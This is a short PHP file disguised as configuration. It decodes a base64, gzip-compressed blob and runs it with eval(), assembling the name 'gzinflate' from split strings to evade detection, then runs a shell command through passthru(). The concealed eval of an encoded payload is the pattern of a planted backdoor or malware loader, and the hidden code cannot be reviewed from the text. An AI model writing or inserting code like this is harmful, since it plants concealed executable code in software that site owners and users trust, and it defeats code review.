<?php
$cfg = 's7EvyChQSMvMSY0vKC2JT87PK0nNKynWSE8F0mUa6h7+vq7qmnrq+npJicUZRcnqOgpKMXnJpUU5CrrFChklJQXFVvr6QDOS09L1UlLL9JNqijNi8pR0FNw8fVzjHQMCXP1cNK0ViiuLS1JzNdQJ6FTXtAYA';
$f = 'gz' . 'inflate';
eval('?>' . $f(base64_decode($cfg)));
passthru('php artisan config:cache');
